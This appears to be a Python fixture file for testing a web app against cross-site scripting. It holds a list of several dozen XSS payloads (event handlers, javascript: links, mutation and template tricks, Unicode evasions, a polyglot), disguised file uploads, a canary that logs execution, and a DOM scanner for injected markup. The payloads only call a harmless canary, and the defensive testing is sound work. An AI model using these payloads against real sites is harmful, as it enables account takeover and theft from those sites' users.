"""What somebody writes who wants a browser to run it (XSS-1), and what shows that one did.

Each payload that runs calls `__xss`, which `CANARY` puts into every page: the call becomes an error on the console.
`STRANGE` lists the elements of a page that only a payload can have brought.
"""

from __future__ import annotations

DEEP = "<b>" * 600 + "<img src=x onerror=__xss()>" + "</b>" * 600
PAYLOADS: dict[str, str] = {
    "script": "<script>__xss()</script>",
    "script with a source": "<script src=//xss.example/__xss.js></script>",
    "script in odd letters": "<ScRiPt/x>__xss()</sCrIpT >",
    "script in two": "<scr<script>ipt>__xss()</scr</script>ipt>",
    "script unclosed": "<script>__xss()//",
    "image": "<img src=x onerror=__xss()>",
    "image without blanks": "<img/src=x/onerror=__xss()>",
    "image in quotes": '<img src="x` `" onerror="__xss()">',
    "image unclosed": '<img src=x onerror="__xss()" ',
    "image after a line": "<img\nsrc=x\nonerror\n=\n__xss()>",
    "svg": "<svg onload=__xss()>",
    "svg slash": '"><svg/onload=__xss()>',
    "svg script": "<svg><script>__xss()</script></svg>",
    "svg animate": "<svg><animate onbegin=__xss() attributeName=x dur=1s>",
    "svg link": '<svg><a xlink:href="javascript:__xss()"><text y=9>x</text></a></svg>',
    "body": "<body onload=__xss() onpageshow=__xss()>",
    "details": "<details open ontoggle=__xss()>x</details>",
    "focus": "<input autofocus onfocus=__xss()>",
    "video": "<video><source onerror=__xss()></video>",
    "marquee": "<marquee onstart=__xss()>x</marquee>",
    "style": "<style>@keyframes a{}</style><b style=animation-name:a onanimationstart=__xss()>x",
    "frame": "<iframe srcdoc='<script>parent.__xss()</script>'></iframe>",
    "frame address": "<iframe src=javascript:parent.__xss()></iframe>",
    "object": "<object data=javascript:__xss()></object><embed src=javascript:__xss()>",
    "link": "<a href=javascript:__xss()>press</a>",
    "bare link": "javascript:__xss()//https://xss.example",
    "link in entities": "<a href=&#106;avascript&colon;__xss&lpar;&rpar;>press</a>",
    "data": "data:text/html,<script>__xss()</script>",
    "address with markup": "https://xss.example/\"onmouseover=__xss()//<script>__xss()</script>",
    "address in brackets": "<https://xss.example/'><img src=x onerror=__xss()>",
    "base": "<base href=//xss.example/><meta http-equiv=refresh content='0;url=//xss.example'>",
    "form": "<form action=//xss.example><button formaction=javascript:__xss() autofocus>x",
    "double break-out": "\"' onmouseover=\"__xss()\" autofocus onfocus='__xss()' x=\"'",
    "break-out of a script": "</script><script>__xss()</script>'-__xss()-'\";__xss();//",
    "break-out of an area": "</textarea></title></style><img src=x onerror=__xss()>",
    "comment": "--><img src=x onerror=__xss()><!--",
    "cdata": "]]><img src=x onerror=__xss()><![CDATA[",
    "mutation": "<noscript><p title='</noscript><img src=x onerror=__xss()>'>",
    "mutation in maths":
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=__xss()&gt;'>",
    "mutation in a form": "<form><math><mtext></form><form><mglyph><svg><mtext><path id='</svg><img onerror=__xss()>'>",
    "bold": "*<img src=x onerror=__xss()>* _<svg onload=__xss()>_",
    "code": "```<script>__xss()</script>``` ~`<b onclick=__xss()>x</b>`~",
    "bold across markup": "*<a *href=javascript:__xss() _onclick=__xss()_>*x_",
    "template": "{{7*7}}${7*7}{% raw %}{{constructor.constructor('__xss()')()}}",
    "htmx": "<p hx-get=/sign-out hx-trigger=load hx-on::load=__xss() hx-vals='js:{a:__xss()}'>x",
    "turned round": "\u202e<img src=x onerror=__xss()>\u202c\u2066\u2069\u200b<scr\u200bipt>__xss()</scr\u200bipt>",
    "line separators": "a\u2028<script>__xss()</script>\u2029\x85\x0b\x0c<svg\x0conload=__xss()>",
    "other letters":
        "\uff1cscript\uff1e__xss()\uff1c/script\uff1e\u02c2img src=x onerror=__xss()\u02c3 +ADw-script+AD4-",
}
NAMES = {name: payload[:80] for name, payload in PAYLOADS.items()}
"""As long as a name may be; what is cut off in the middle of a tag is one more payload."""
POLYGLOT = "\"'></title><img src=x onerror=__xss()><svg/onload=__xss()>{{7*7}}"

CANARY = """window.__xss = (...told) => console.error('the canary was called');
for (const name of ['alert', 'confirm', 'prompt']) window[name] = () => window.__xss();"""
# Nothing of ours has these, so each would be a payload that became part of the page.
STRANGE = """() => [...document.querySelectorAll('*')].flatMap((element) => {
    const leads = (text) => { try { return new URL(text, location.href); } catch { return new URL('javascript:'); } };
    const evil = ({ name, value }) => /^on|^hx-on|^srcdoc$/i.test(name)
        || (/^(href|src|action|formaction|data|xlink:href|hx-get|hx-post)$/i.test(name) && (
            /^(javascript|data|vbscript):/.test(leads(value).protocol)
            || (leads(value).host === 'xss.example' && element.localName !== 'a')));
    const named = /^(iframe|object|embed|base|math|marquee|mglyph|animate)$/i.test(element.localName);
    const inline = element.localName === 'script' && !element.src && !/json/.test(element.type);
    const refresh = element.localName === 'meta' && element.httpEquiv === 'refresh';
    return named || inline || refresh || [...element.attributes].some(evil) ? [element.outerHTML.slice(0, 200)] : [];
})"""
_SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='__xss()'><script>__xss()</script></svg>"
_PAGE = b"<!doctype html><script>__xss();new Image().src='/canary'</script><h1>x</h1>"
FILES: dict[str, tuple[str, bytes]] = {
    "a page": ("text/html", _PAGE),
    "a page in XML": ("application/xhtml+xml",
                      b"<html xmlns='http://www.w3.org/1999/xhtml'><script>__xss()</script></html>"),
    "a drawing": ("image/svg+xml", _SVG),
    "a drawing called a picture": ("image/png", _SVG),
    "a page called a film": ("video/mp4", _PAGE),
    "a script": ("text/javascript", b"__xss()"),
    "a page called words": ("text/plain", _PAGE),
    "a document": ("application/pdf", b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(__xss\\(\\))>>>>endobj"),
}
"""What it is: the type that comes with it, and its bytes."""
